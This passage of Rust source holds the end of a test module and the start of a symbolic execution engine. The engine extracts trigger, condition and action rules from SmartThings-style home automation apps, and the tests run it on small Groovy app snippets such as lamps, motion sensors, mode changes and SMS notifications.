        assert_eq!(rule.actions.len(), 1);
        assert_eq!(rule.actions[0].command, "on");
        let ActionSubject::Device(DeviceRef::Unbound { input, .. }) = &rule.actions[0].subject
        else {
            panic!()
        };
        assert_eq!(input, "window1");
        assert_eq!(rule.actions[0].when_secs, 0);
        assert_eq!(rule.actions[0].period_secs, 0);

        // Data constraint recorded (Table II: t = tSensor.temperature).
        assert!(rule
            .condition
            .data_constraints
            .iter()
            .any(|d| d.name == "t"));
    }

    #[test]
    fn subscription_value_form() {
        let src = r#"
input "door", "capability.contactSensor"
input "lamp", "capability.switch", title: "lamp"
def installed() { subscribe(door, "contact.open", opened) }
def opened(evt) { lamp.on() }
"#;
        let a = extract(src, "X", &ExtractorConfig::default()).unwrap();
        assert_eq!(a.rules.len(), 1);
        let Trigger::DeviceEvent { constraint, .. } = &a.rules[0].trigger else {
            panic!()
        };
        assert!(constraint
            .as_ref()
            .unwrap()
            .to_string()
            .contains("contact == open"));
    }

    #[test]
    fn branches_produce_separate_rules() {
        let src = r#"
input "s", "capability.switch", title: "switch"
input "lamp", "capability.switch", title: "lamp"
def installed() { subscribe(s, "switch", h) }
def h(evt) {
    if (evt.value == "on") { lamp.on() } else { lamp.off() }
}
"#;
        let a = extract(src, "X", &ExtractorConfig::default()).unwrap();
        assert_eq!(a.rules.len(), 2);
        let cmds: Vec<_> = a
            .rules
            .iter()
            .map(|r| r.actions[0].command.as_str())
            .collect();
        assert!(cmds.contains(&"on"));
        assert!(cmds.contains(&"off"));
    }

    #[test]
    fn run_in_attaches_delay() {
        let src = r#"
input "m", "capability.motionSensor"
input "lamp", "capability.switch", title: "lamp"
def installed() { subscribe(m, "motion.inactive", h) }
def h(evt) { runIn(300, turnOff) }
def turnOff() { lamp.off() }
"#;
        let a = extract(src, "X", &ExtractorConfig::default()).unwrap();
        assert_eq!(a.rules.len(), 1);
        assert_eq!(a.rules[0].actions[0].when_secs, 300);
    }

    #[test]
    fn periodic_schedule_creates_trigger() {
        let src = r#"
input "lamp", "capability.switch", title: "lamp"
def installed() { runEvery5Minutes(check) }
def check() { lamp.off() }
"#;
        let a = extract(src, "X", &ExtractorConfig::default()).unwrap();
        assert_eq!(a.rules.len(), 1);
        assert_eq!(a.rules[0].trigger, Trigger::Periodic { period_secs: 300 });
    }

    #[test]
    fn mode_change_trigger_and_set_mode_action() {
        let src = r#"
input "s", "capability.switch", title: "switch"
def installed() { subscribe(s, "switch.on", h) }
def h(evt) { setLocationMode("Away") }
"#;
        let a = extract(src, "X", &ExtractorConfig::default()).unwrap();
        assert_eq!(a.rules.len(), 1);
        let act = &a.rules[0].actions[0];
        assert_eq!(act.subject, ActionSubject::LocationMode);
        assert_eq!(
            act.params[0],
            hg_rules::constraint::Term::Const(Value::Sym("Away".into()))
        );
    }

    #[test]
    fn mode_subscription() {
        let src = r#"
input "lamp", "capability.switch", title: "lamp"
def installed() { subscribe(location, "mode", h) }
def h(evt) { if (location.mode == "Night") { lamp.off() } }
"#;
        let a = extract(src, "X", &ExtractorConfig::default()).unwrap();
        assert_eq!(a.rules.len(), 1);
        let Trigger::ModeChange { .. } = &a.rules[0].trigger else {
            panic!()
        };
        // `location.mode` is a state read, not an event-value comparison, so
        // the atom stays in the condition (only `evt.value` hoists).
        assert!(a.rules[0]
            .condition
            .predicate
            .variables()
            .contains(&VarId::Mode));
    }

    #[test]
    fn multiple_devices_input_fans_out_actions() {
        let src = r#"
input "m", "capability.motionSensor"
input "lights", "capability.switch", title: "lights", multiple: true
def installed() { subscribe(m, "motion.active", h) }
def h(evt) { lights.on() }
"#;
        let a = extract(src, "X", &ExtractorConfig::default()).unwrap();
        assert_eq!(a.rules.len(), 1);
        assert_eq!(a.rules[0].actions.len(), 1);
        assert_eq!(a.rules[0].actions[0].command, "on");
    }

    #[test]
    fn each_closure_over_devices() {
        let src = r#"
input "m", "capability.motionSensor"
input "lights", "capability.switch", title: "lights", multiple: true
def installed() { subscribe(m, "motion.active", h) }
def h(evt) { lights.each { it.on() } }
"#;
        let a = extract(src, "X", &ExtractorConfig::default()).unwrap();
        assert_eq!(a.rules.len(), 1);
        assert!(a.rules[0].actions.iter().all(|x| x.command == "on"));
    }

    #[test]
    fn nonstandard_device_rejected_then_accepted() {
        let src = r#"
definition(name: "Feed My Pet")
input "feeder", "device.petfeedershield"
input "btn", "capability.momentary"
def installed() { subscribe(btn, "momentary", h) }
def h(evt) { feeder.feed() }
"#;
        let err = extract(src, "FeedMyPet", &ExtractorConfig::default()).unwrap_err();
        assert!(matches!(err, ExtractError::Unsupported(_)));
        let ok = extract(src, "FeedMyPet", &ExtractorConfig::extended());
        assert!(ok.is_ok());
    }

    #[test]
    fn undocumented_api_rejected_then_modeled() {
        let src = r#"
definition(name: "Camera Power Scheduler")
input "cams", "capability.switch", title: "camera outlets", multiple: true
def installed() { runDaily("18:30", powerOn) }
def powerOn() { cams.on() }
"#;
        let err = extract(src, "CPS", &ExtractorConfig::default()).unwrap_err();
        assert!(matches!(err, ExtractError::Unsupported(_)));
        let a = extract(src, "CPS", &ExtractorConfig::extended()).unwrap();
        assert_eq!(a.rules.len(), 1);
        let Trigger::TimeOfDay { at_minutes, .. } = &a.rules[0].trigger else {
            panic!()
        };
        assert_eq!(*at_minutes, Some(18 * 60 + 30));
    }

    #[test]
    fn web_service_app_flagged() {
        let src = r#"
definition(name: "Endpoint")
input "lock1", "capability.lock", title: "door lock"
mappings {
    path("/lock") {
        action: [GET: "lockHandler"]
    }
}
def installed() { }
def lockHandler() { lock1.unlock() }
"#;
        let a = extract(src, "Endpoint", &ExtractorConfig::default()).unwrap();
        assert!(a.is_web_service);
        // No subscriptions → no rules from static automation.
        assert!(a.rules.is_empty());
    }

    #[test]
    fn switch_statement_rules() {
        let src = r#"
input "s", "capability.switch", title: "switch"
input "sir", "capability.alarm", title: "siren"
def installed() { subscribe(s, "switch", h) }
def h(evt) {
    switch (evt.value) {
        case "on":
            sir.siren()
            break
        case "off":
            sir.off()
            break
    }
}
"#;
        let a = extract(src, "X", &ExtractorConfig::default()).unwrap();
        assert_eq!(a.rules.len(), 2);
    }

    #[test]
    fn sms_sink_records_message_action() {
        let src = r#"
input "door", "capability.contactSensor"
input "phone1", "phone"
def installed() { subscribe(door, "contact.open", h) }
def h(evt) { sendSms(phone1, "door opened") }
"#;
        let a = extract(src, "X", &ExtractorConfig::default()).unwrap();
        assert_eq!(a.rules.len(), 1);
        assert!(matches!(
            a.rules[0].actions[0].subject,
            ActionSubject::Message { .. }
        ));
        assert!(!a.rules[0].actions[0].is_actuation());
    }

    #[test]
    fn state_reads_become_variables() {
        let src = r#"
input "s", "capability.switch", title: "switch"
input "lamp", "capability.switch", title: "lamp"
def installed() { subscribe(s, "switch.on", h) }
def h(evt) {
    if (state.armed == "yes") { lamp.on() }
}
"#;
        let a = extract(src, "StApp", &ExtractorConfig::default()).unwrap();
        assert_eq!(a.rules.len(), 1);
        let vars = a.rules[0].condition.predicate.variables();
        assert!(vars
            .iter()
            .any(|v| matches!(v, VarId::State { name, .. } if name == "armed")));
    }

    #[test]
    fn definition_metadata_parsed() {
        let a = extract(COMFORT_TV, "fallback", &ExtractorConfig::default()).unwrap();
        assert_eq!(a.name, "ComfortTV");
        assert!(a.description.contains("window"));
        assert_eq!(a.inputs.len(), 4);
    }

    #[test]
    fn no_rules_for_pure_notifier_condition_free() {
        // Apps that only notify still yield rules, but none are actuations.
        let src = r#"
input "door", "capability.contactSensor"
def installed() { subscribe(door, "contact", h) }
def h(evt) { sendPush("door!") }
"#;
        let a = extract(src, "X", &ExtractorConfig::default()).unwrap();
        assert!(!a.controls_devices());
    }
}
