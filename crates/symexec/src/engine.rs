//! The symbolic execution engine (paper §V-B).
//!
//! Extraction runs in two phases:
//!
//! 1. **Trigger collection** — the lifecycle entry points (`installed`,
//!    `updated`) are executed to find every `subscribe`/`schedule`/
//!    `runEvery*` registration, exploring both sides of any conditional so
//!    that conditionally-registered triggers are not missed.
//! 2. **Path tracing** — each trigger's handler is executed symbolically
//!    with a depth-first exploration of all paths. A path that reaches one
//!    or more sinks (capability commands, sensitive APIs) becomes a
//!    [`Rule`]: the branch conditions along the path form the rule
//!    condition, and comparisons on the event value are hoisted into the
//!    trigger constraint, exactly as §V-B describes.

use crate::inputs::{collect_inputs, InputDecl, InputType};
use crate::sv::{DeviceSlot, Sv};
use hg_capability::capability;
use hg_capability::domains::parse_scaled;
use hg_lang::ast::*;
use hg_rules::constraint::{CmpOp, Formula, Term};
use hg_rules::rule::{Action, Condition, DataConstraint, Rule, RuleId, Trigger};
use hg_rules::value::Value;
use hg_rules::varid::VarId;
use std::collections::BTreeMap;

/// Extractor configuration.
///
/// The flags mirror the paper's §VIII-B experience: the stock extractor
/// failed on apps using non-standard `device.*` input types and
/// undocumented APIs; after extending the capability list and modeling
/// those APIs, all store apps extracted. Both behaviours are reproducible.
#[derive(Debug, Clone)]
pub struct ExtractorConfig {
    /// Accept `device.*` and unknown `capability.*` input types.
    pub allow_nonstandard_devices: bool,
    /// Model undocumented platform APIs (e.g. `runDaily`).
    pub model_undocumented_apis: bool,
    /// Maximum explored paths per handler before giving up.
    pub max_paths: usize,
    /// Maximum user-method call depth (recursion guard).
    pub max_call_depth: usize,
    /// Maximum loop unrolling for concrete collections/ranges.
    pub loop_unroll: usize,
}

impl Default for ExtractorConfig {
    fn default() -> Self {
        ExtractorConfig {
            allow_nonstandard_devices: false,
            model_undocumented_apis: false,
            max_paths: 512,
            max_call_depth: 16,
            loop_unroll: 8,
        }
    }
}

impl ExtractorConfig {
    /// The configuration after the paper's fixes: non-standard device types
    /// added to the capability list and undocumented APIs modeled.
    pub fn extended() -> Self {
        ExtractorConfig {
            allow_nonstandard_devices: true,
            model_undocumented_apis: true,
            ..ExtractorConfig::default()
        }
    }
}

/// A fatal extraction failure.
#[derive(Debug, Clone, PartialEq)]
pub enum ExtractError {
    /// The source did not parse.
    Parse(hg_lang::ParseError),
    /// The app uses a construct the extractor cannot handle under the
    /// current configuration.
    Unsupported(String),
}

impl std::fmt::Display for ExtractError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            ExtractError::Parse(e) => write!(f, "{e}"),
            ExtractError::Unsupported(what) => write!(f, "unsupported: {what}"),
        }
    }
}

impl std::error::Error for ExtractError {}

impl From<hg_lang::ParseError> for ExtractError {
    fn from(e: hg_lang::ParseError) -> Self {
        ExtractError::Parse(e)
    }
}

/// Control-flow signal attached to each explored state.
///
/// `Return` carries the full symbolic value inline: flows are short-lived
/// and cloned rarely, so boxing would cost more than the size skew.
#[allow(clippy::large_enum_variant)]
#[derive(Debug, Clone, PartialEq)]
pub(crate) enum Flow {
    Normal,
    Return(Sv),
    Break,
    Continue,
}

/// One in-flight execution path.
#[derive(Debug, Clone)]
pub(crate) struct St {
    pub(crate) locals: Vec<BTreeMap<String, Sv>>,
    pub(crate) state_overlay: BTreeMap<String, Sv>,
    pub(crate) path: Vec<Formula>,
    pub(crate) data: Vec<DataConstraint>,
    pub(crate) actions: Vec<Action>,
    pub(crate) delay: u64,
    pub(crate) period: u64,
    pub(crate) depth: usize,
}

impl St {
    pub(crate) fn new() -> St {
        St {
            locals: vec![BTreeMap::new()],
            state_overlay: BTreeMap::new(),
            path: Vec::new(),
            data: Vec::new(),
            actions: Vec::new(),
            delay: 0,
            period: 0,
            depth: 0,
        }
    }

    pub(crate) fn lookup(&self, name: &str) -> Option<&Sv> {
        self.locals.iter().rev().find_map(|scope| scope.get(name))
    }

    pub(crate) fn assign(&mut self, name: &str, value: Sv) {
        for scope in self.locals.iter_mut().rev() {
            if scope.contains_key(name) {
                scope.insert(name.to_string(), value);
                return;
            }
        }
        self.locals
            .last_mut()
            .expect("at least one scope")
            .insert(name.to_string(), value);
    }

    pub(crate) fn define(&mut self, name: &str, value: Sv) {
        self.locals
            .last_mut()
            .expect("at least one scope")
            .insert(name.to_string(), value);
    }
}

/// What phase the engine is in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Mode {
    CollectTriggers,
    Trace,
}

/// A collected trigger registration.
#[derive(Debug, Clone, PartialEq)]
pub(crate) struct Registration {
    pub trigger: Trigger,
    pub handler: String,
}

/// The symbolic executor for one app.
pub(crate) struct Engine<'a> {
    pub program: &'a Program,
    pub app: String,
    pub config: &'a ExtractorConfig,
    pub inputs: BTreeMap<String, InputDecl>,
    pub warnings: Vec<String>,
    pub(crate) opaque_counter: usize,
    pub(crate) mode: Mode,
    pub(crate) registrations: Vec<Registration>,
    pub(crate) current_trigger: Option<Trigger>,
    pub(crate) paths_emitted: usize,
}

impl<'a> Engine<'a> {
    pub fn new(program: &'a Program, app: &str, config: &'a ExtractorConfig) -> Engine<'a> {
        let inputs = collect_inputs(program)
            .into_iter()
            .map(|d| (d.name.clone(), d))
            .collect();
        Engine {
            program,
            app: app.to_string(),
            config,
            inputs,
            warnings: Vec::new(),
            opaque_counter: 0,
            mode: Mode::CollectTriggers,
            registrations: Vec::new(),
            current_trigger: None,
            paths_emitted: 0,
        }
    }

    /// Validates input declarations against the configuration.
    pub fn check_inputs(&self) -> Result<(), ExtractError> {
        for decl in self.inputs.values() {
            if let InputType::NonStandardDevice(d) = &decl.input_type {
                if !self.config.allow_nonstandard_devices {
                    return Err(ExtractError::Unsupported(format!(
                        "non-standard device type `{d}` in input `{}` (not in the capability list)",
                        decl.name
                    )));
                }
            }
        }
        Ok(())
    }

    /// Phase 1: run the lifecycle entry points, collecting registrations.
    pub fn collect_registrations(&mut self) -> Result<Vec<Registration>, ExtractError> {
        self.mode = Mode::CollectTriggers;
        for entry in ["installed", "updated", "initialize"] {
            // `initialize` is only run directly when not reachable from the
            // lifecycle methods (some apps define it without callers).
            if entry == "initialize"
                && (self.program.method("installed").is_some()
                    || self.program.method("updated").is_some())
            {
                continue;
            }
            if let Some(m) = self.program.method(entry) {
                let st = St::new();
                self.exec_block(&m.body, st)?;
            }
        }
        // Deduplicate registrations (installed and updated usually repeat).
        let mut seen = Vec::new();
        for r in std::mem::take(&mut self.registrations) {
            if !seen.contains(&r) {
                seen.push(r);
            }
        }
        Ok(seen)
    }

    /// Phase 2: trace one registration's handler, emitting rules.
    pub fn trace(&mut self, reg: &Registration, rules: &mut Vec<Rule>) -> Result<(), ExtractError> {
        self.mode = Mode::Trace;
        self.current_trigger = Some(reg.trigger.clone());
        self.paths_emitted = 0;
        let Some(method) = self.program.method(&reg.handler) else {
            self.warnings
                .push(format!("handler `{}` not found", reg.handler));
            return Ok(());
        };
        let mut st = St::new();
        // Bind the event parameter.
        if let Some(p) = method.params.first() {
            st.define(&p.name, Sv::Event);
        }
        let outcomes = self.exec_block(&method.body, st)?;
        for (st, _flow) in outcomes {
            if st.actions.is_empty() {
                continue;
            }
            if self.paths_emitted >= self.config.max_paths {
                self.warnings.push(format!(
                    "path budget exhausted in handler `{}`",
                    reg.handler
                ));
                break;
            }
            let rule = self.finish_rule(&reg.trigger, st, rules.len());
            // Prune infeasible paths (e.g. `v > 65` and `v < 45` explored on
            // the same path from sequential ifs): the paper's executor only
            // reports rules whose path condition is satisfiable.
            if !path_feasible(&rule) {
                continue;
            }
            self.paths_emitted += 1;
            rules.push(rule);
        }
        Ok(())
    }

    /// Assembles a rule from a completed path: hoists event-value atoms into
    /// the trigger constraint and conjoins the rest as the condition.
    pub(crate) fn finish_rule(&self, trigger: &Trigger, st: St, index: usize) -> Rule {
        let trigger_var = trigger.observed_var();
        let evt_var = self.evt_value_var();
        let mut trig_atoms = Vec::new();
        let mut cond_atoms = Vec::new();
        // Flatten top-level conjunctions so that only the conjuncts that
        // actually compare the event value are hoisted into the trigger.
        let mut flat = Vec::new();
        for atom in st.path {
            match atom {
                Formula::And(parts) => flat.extend(parts),
                other => flat.push(other),
            }
        }
        for atom in flat {
            let mentions_evt = atom.variables().contains(&evt_var);
            match (&trigger_var, mentions_evt) {
                (Some(tv), true) => {
                    // Rename the event-value placeholder to the canonical
                    // trigger variable and hoist.
                    let tv = tv.clone();
                    let renamed = atom.map_vars(&|v| {
                        if *v == evt_var {
                            tv.clone()
                        } else {
                            v.clone()
                        }
                    });
                    trig_atoms.push(renamed);
                }
                _ => cond_atoms.push(atom),
            }
        }
        let mut trigger = trigger.clone();
        if !trig_atoms.is_empty() {
            let extra = Formula::and(trig_atoms);
            match &mut trigger {
                Trigger::DeviceEvent { constraint, .. } | Trigger::ModeChange { constraint } => {
                    let merged = match constraint.take() {
                        Some(prev) => Formula::and([prev, extra]),
                        None => extra,
                    };
                    *constraint = Some(merged);
                }
                _ => cond_atoms.push(extra),
            }
        }
        Rule {
            id: RuleId::new(&self.app, index),
            trigger,
            condition: Condition {
                data_constraints: st.data,
                predicate: Formula::and(cond_atoms),
            },
            actions: st.actions,
        }
    }

    /// The placeholder variable standing for the subscribed event's value
    /// during tracing. `finish_rule` renames it to the trigger's observed
    /// variable in hoisted trigger constraints — this is what lets the
    /// extractor distinguish "compare the event value" (trigger constraint,
    /// §V-B) from "re-read the same attribute later" (condition).
    pub(crate) fn evt_value_var(&self) -> VarId {
        VarId::Opaque {
            app: self.app.clone(),
            name: "\u{ab}evtValue\u{bb}".into(),
        }
    }

    pub(crate) fn fresh_opaque(&mut self, hint: &str) -> Term {
        self.opaque_counter += 1;
        Term::Var(VarId::Opaque {
            app: self.app.clone(),
            name: format!("{hint}{}", self.opaque_counter),
        })
    }

    // ----- statement execution ------------------------------------------------

    pub(crate) fn exec_block(
        &mut self,
        block: &Block,
        st: St,
    ) -> Result<Vec<(St, Flow)>, ExtractError> {
        let mut states = vec![(st, Flow::Normal)];
        for stmt in &block.stmts {
            let mut next = Vec::new();
            for (st, flow) in states {
                if flow != Flow::Normal {
                    next.push((st, flow));
                    continue;
                }
                next.extend(self.exec_stmt(stmt, st)?);
            }
            states = next;
            if states.len() > self.config.max_paths {
                states.truncate(self.config.max_paths);
                // Note: truncation is recorded once per handler.
            }
        }
        Ok(states)
    }

    fn exec_stmt(&mut self, stmt: &Stmt, st: St) -> Result<Vec<(St, Flow)>, ExtractError> {
        match &stmt.kind {
            StmtKind::Expr(e) => {
                let results = self.eval(e, st)?;
                Ok(results
                    .into_iter()
                    .map(|(st, _)| (st, Flow::Normal))
                    .collect())
            }
            StmtKind::Def { name, init } => match init {
                Some(e) => {
                    let results = self.eval(e, st)?;
                    Ok(results
                        .into_iter()
                        .map(|(mut st, v)| {
                            self.record_data_constraint(&mut st, name, &v);
                            st.define(name, v);
                            (st, Flow::Normal)
                        })
                        .collect())
                }
                None => {
                    let mut st = st;
                    st.define(name, Sv::Null);
                    Ok(vec![(st, Flow::Normal)])
                }
            },
            StmtKind::Assign { target, op, value } => self.exec_assign(target, *op, value, st),
            StmtKind::If {
                cond,
                then_branch,
                else_branch,
            } => {
                let mut out = Vec::new();
                for (st, pred) in self.eval_pred(cond, st)? {
                    match pred {
                        BranchPred::Known(true) => out.extend(self.exec_block(then_branch, st)?),
                        BranchPred::Known(false) => match else_branch {
                            Some(eb) => out.extend(self.exec_block(eb, st)?),
                            None => out.push((st, Flow::Normal)),
                        },
                        BranchPred::Sym(f) => {
                            let mut then_st = st.clone();
                            then_st.path.push(f.clone());
                            out.extend(self.exec_block(then_branch, then_st)?);
                            let mut else_st = st;
                            else_st.path.push(f.negate());
                            match else_branch {
                                Some(eb) => out.extend(self.exec_block(eb, else_st)?),
                                None => out.push((else_st, Flow::Normal)),
                            }
                        }
                    }
                }
                Ok(out)
            }
            StmtKind::Switch {
                subject,
                cases,
                default,
            } => self.exec_switch(subject, cases, default.as_ref(), st),
            StmtKind::Return(value) => match value {
                Some(e) => {
                    let results = self.eval(e, st)?;
                    Ok(results
                        .into_iter()
                        .map(|(st, v)| (st, Flow::Return(v)))
                        .collect())
                }
                None => Ok(vec![(st, Flow::Return(Sv::Null))]),
            },
            StmtKind::ForIn {
                var,
                iterable,
                body,
            } => self.exec_for(var, iterable, body, st),
            StmtKind::While { cond, body } => {
                // SmartApps rarely loop; explore zero and one iteration.
                let mut out = Vec::new();
                for (st, pred) in self.eval_pred(cond, st)? {
                    match pred {
                        BranchPred::Known(false) => out.push((st, Flow::Normal)),
                        BranchPred::Known(true) | BranchPred::Sym(_) => {
                            // One iteration, then assume exit.
                            for (st2, flow) in self.exec_block(body, st.clone())? {
                                let flow = match flow {
                                    Flow::Break | Flow::Continue => Flow::Normal,
                                    other => other,
                                };
                                out.push((st2, flow));
                            }
                            out.push((st, Flow::Normal));
                        }
                    }
                }
                Ok(out)
            }
            StmtKind::Break => Ok(vec![(st, Flow::Break)]),
            StmtKind::Continue => Ok(vec![(st, Flow::Continue)]),
        }
    }

    pub(crate) fn record_data_constraint(&self, st: &mut St, name: &str, value: &Sv) {
        if let Some(term) = value.as_term() {
            if matches!(
                term,
                Term::Var(_) | Term::Add(..) | Term::Sub(..) | Term::Mul(..) | Term::Div(..)
            ) {
                st.data.push(DataConstraint {
                    name: name.to_string(),
                    term,
                });
            }
        }
    }

    fn exec_assign(
        &mut self,
        target: &Expr,
        op: AssignOp,
        value: &Expr,
        st: St,
    ) -> Result<Vec<(St, Flow)>, ExtractError> {
        let mut out = Vec::new();
        for (mut st, v) in self.eval(value, st)? {
            let combined = |current: Option<&Sv>, v: &Sv| -> Sv {
                match op {
                    AssignOp::Set => v.clone(),
                    AssignOp::Add | AssignOp::Sub => {
                        let cur = current.and_then(Sv::as_term);
                        let add = v.as_term();
                        match (cur, add) {
                            (Some(a), Some(b)) => Sv::Term(match op {
                                AssignOp::Add => Term::Add(Box::new(a), Box::new(b)),
                                _ => Term::Sub(Box::new(a), Box::new(b)),
                            }),
                            _ => v.clone(),
                        }
                    }
                }
            };
            match &target.kind {
                ExprKind::Ident(name) => {
                    let newv = combined(st.lookup(name), &v);
                    self.record_data_constraint(&mut st, name, &newv);
                    st.assign(name, newv);
                }
                ExprKind::Prop { recv, name, .. } => {
                    let (st2, recv_v) = self.eval_single(recv, st)?;
                    st = st2;
                    match recv_v {
                        Sv::StateObj => {
                            let newv = combined(st.state_overlay.get(name), &v);
                            st.state_overlay.insert(name.clone(), newv);
                        }
                        _ => {
                            self.warnings
                                .push(format!("ignored assignment to property `{name}`"));
                        }
                    }
                }
                _ => self
                    .warnings
                    .push("ignored complex assignment target".into()),
            }
            out.push((st, Flow::Normal));
        }
        Ok(out)
    }

    fn exec_switch(
        &mut self,
        subject: &Expr,
        cases: &[SwitchCase],
        default: Option<&Block>,
        st: St,
    ) -> Result<Vec<(St, Flow)>, ExtractError> {
        let mut out = Vec::new();
        for (st, subject_v) in self.eval(subject, st)? {
            let subject_term = subject_v.as_term();
            let mut negations: Vec<Formula> = Vec::new();
            for case in cases {
                let (st_c, case_v) = self.eval_single(&case.value, st.clone())?;
                let eq = match (subject_term.clone(), case_v.as_term()) {
                    (Some(a), Some(b)) => Formula::cmp(a, CmpOp::Eq, b),
                    _ => Formula::True,
                };
                let mut case_st = st_c;
                case_st.path.extend(negations.iter().cloned());
                case_st.path.push(eq.clone());
                for (s, f) in self.exec_block(&case.body, case_st)? {
                    let f = if f == Flow::Break { Flow::Normal } else { f };
                    out.push((s, f));
                }
                negations.push(eq.negate());
            }
            let mut def_st = st;
            def_st.path.extend(negations);
            match default {
                Some(d) => out.extend(self.exec_block(d, def_st)?),
                None => out.push((def_st, Flow::Normal)),
            }
        }
        Ok(out)
    }

    fn exec_for(
        &mut self,
        var: &str,
        iterable: &Expr,
        body: &Block,
        st: St,
    ) -> Result<Vec<(St, Flow)>, ExtractError> {
        let mut out = Vec::new();
        for (st, coll) in self.eval(iterable, st)? {
            let items: Vec<Sv> = match &coll {
                Sv::List(items) => items.clone(),
                Sv::Devices(slots) => slots.iter().map(|s| Sv::Device(s.clone())).collect(),
                Sv::Device(d) => vec![Sv::Device(d.clone())],
                Sv::Term(_) | Sv::Null => {
                    // Unknown collection: run the body once with an opaque
                    // element (sound for sink discovery).
                    let opaque = Sv::Term(self.fresh_opaque("elem"));
                    vec![opaque]
                }
                _ => vec![coll.clone()],
            };
            let items = items
                .into_iter()
                .take(self.config.loop_unroll)
                .collect::<Vec<_>>();
            let mut states = vec![(st, Flow::Normal)];
            for item in items {
                let mut next = Vec::new();
                for (mut s, flow) in states {
                    if flow != Flow::Normal {
                        if flow == Flow::Break {
                            next.push((s, Flow::Normal));
                        } else {
                            next.push((s, flow));
                        }
                        continue;
                    }
                    s.define(var, item.clone());
                    for (s2, f2) in self.exec_block(body, s)? {
                        let f2 = if f2 == Flow::Continue {
                            Flow::Normal
                        } else {
                            f2
                        };
                        next.push((s2, f2));
                    }
                }
                states = next;
                if states.len() > self.config.max_paths {
                    states.truncate(self.config.max_paths);
                }
            }
            for (s, f) in states {
                let f = if f == Flow::Break { Flow::Normal } else { f };
                out.push((s, f));
            }
        }
        Ok(out)
    }

    // ----- expression evaluation ------------------------------------------------

    pub(crate) fn eval_single(&mut self, e: &Expr, st: St) -> Result<(St, Sv), ExtractError> {
        let mut results = self.eval(e, st)?;
        if results.len() > 1 {
            // Keep the first path; the remaining forks were already
            // accounted for by the caller's state list when relevant.
            results.truncate(1);
        }
        Ok(results.pop().expect("eval returns at least one state"))
    }

    pub(crate) fn eval(&mut self, e: &Expr, st: St) -> Result<Vec<(St, Sv)>, ExtractError> {
        match &e.kind {
            ExprKind::Int(n) => Ok(vec![(st, Sv::num(n * hg_capability::domains::SCALE))]),
            ExprKind::Decimal(d) => {
                let v = parse_scaled(d).map(Sv::num).unwrap_or(Sv::Null);
                Ok(vec![(st, v)])
            }
            ExprKind::Str(s) => Ok(vec![(st, Sv::sym(s.clone()))]),
            ExprKind::GStr(parts) => self.eval_gstring(parts, st),
            ExprKind::Bool(b) => Ok(vec![(st, Sv::bool(*b))]),
            ExprKind::Null => Ok(vec![(st, Sv::Null)]),
            ExprKind::ListLit(items) => {
                let mut states = vec![(st, Vec::new())];
                for item in items {
                    let mut next = Vec::new();
                    for (s, acc) in states {
                        for (s2, v) in self.eval(item, s)? {
                            let mut acc2: Vec<Sv> = acc.clone();
                            acc2.push(v);
                            next.push((s2, acc2));
                        }
                    }
                    states = next;
                }
                Ok(states
                    .into_iter()
                    .map(|(s, acc)| (s, Sv::List(acc)))
                    .collect())
            }
            ExprKind::MapLit(entries) => {
                let mut st = st;
                let mut map = BTreeMap::new();
                for entry in entries {
                    let (s2, v) = self.eval_single(&entry.value, st)?;
                    st = s2;
                    map.insert(entry.key.as_text(), v);
                }
                Ok(vec![(st, Sv::Map(map))])
            }
            ExprKind::Ident(name) => Ok(vec![(st.clone(), self.resolve_ident(name, &st))]),
            ExprKind::Prop { recv, name, .. } => {
                let mut out = Vec::new();
                for (st, recv_v) in self.eval(recv, st)? {
                    let v = self.eval_prop(&recv_v, name, &st);
                    out.push((st, v));
                }
                Ok(out)
            }
            ExprKind::Index { recv, index } => {
                let (st, recv_v) = self.eval_single(recv, st)?;
                let (st, idx_v) = self.eval_single(index, st)?;
                let v = match (&recv_v, &idx_v) {
                    (Sv::List(items), Sv::Concrete(Value::Num(n))) => {
                        let i = (n / hg_capability::domains::SCALE) as usize;
                        items.get(i).cloned().unwrap_or(Sv::Null)
                    }
                    (Sv::Map(entries), Sv::Concrete(Value::Sym(k))) => {
                        entries.get(k).cloned().unwrap_or(Sv::Null)
                    }
                    _ => Sv::Term(self.fresh_opaque("index")),
                };
                Ok(vec![(st, v)])
            }
            ExprKind::Call {
                recv,
                name,
                args,
                closure,
                ..
            } => self.eval_call(recv.as_deref(), name, args, closure.as_deref(), st),
            ExprKind::Closure(_) => Ok(vec![(st, Sv::Null)]),
            ExprKind::Unary { op, expr } => {
                let mut out = Vec::new();
                for (st, v) in self.eval(expr, st)? {
                    let r = match op {
                        UnaryOp::Not => match self.to_pred(&v) {
                            Some(f) => Sv::Pred(f.negate()),
                            None => Sv::Pred(Formula::cmp(
                                self.fresh_opaque("not"),
                                CmpOp::Eq,
                                Term::sym("true"),
                            )),
                        },
                        UnaryOp::Neg => match v.as_term() {
                            Some(t) => Sv::Term(Term::Neg(Box::new(t))),
                            None => Sv::Null,
                        },
                    };
                    out.push((st, r));
                }
                Ok(out)
            }
            ExprKind::Binary { op, lhs, rhs } => self.eval_binary(*op, lhs, rhs, st),
            ExprKind::Ternary {
                cond,
                then_expr,
                else_expr,
            } => {
                let mut out = Vec::new();
                for (st, pred) in self.eval_pred(cond, st)? {
                    match pred {
                        BranchPred::Known(true) => out.extend(self.eval(then_expr, st)?),
                        BranchPred::Known(false) => out.extend(self.eval(else_expr, st)?),
                        BranchPred::Sym(f) => {
                            let mut t_st = st.clone();
                            t_st.path.push(f.clone());
                            out.extend(self.eval(then_expr, t_st)?);
                            let mut e_st = st;
                            e_st.path.push(f.negate());
                            out.extend(self.eval(else_expr, e_st)?);
                        }
                    }
                }
                Ok(out)
            }
            ExprKind::Elvis { value, fallback } => {
                let mut out = Vec::new();
                for (st, v) in self.eval(value, st)? {
                    match v.truthiness() {
                        Some(true) => out.push((st, v)),
                        Some(false) => out.extend(self.eval(fallback, st)?),
                        None => {
                            // Either side possible; prefer the defined value
                            // and also explore the fallback.
                            out.push((st.clone(), v));
                            out.extend(self.eval(fallback, st)?);
                        }
                    }
                }
                Ok(out)
            }
            ExprKind::Range { lo, hi } => {
                let (st, lo_v) = self.eval_single(lo, st)?;
                let (st, hi_v) = self.eval_single(hi, st)?;
                let items = match (lo_v.as_concrete(), hi_v.as_concrete()) {
                    (Some(Value::Num(a)), Some(Value::Num(b))) => {
                        let scale = hg_capability::domains::SCALE;
                        let (a, b) = (a / scale, b / scale);
                        (a..=b)
                            .take(self.config.loop_unroll)
                            .map(|n| Sv::num(n * scale))
                            .collect()
                    }
                    _ => Vec::new(),
                };
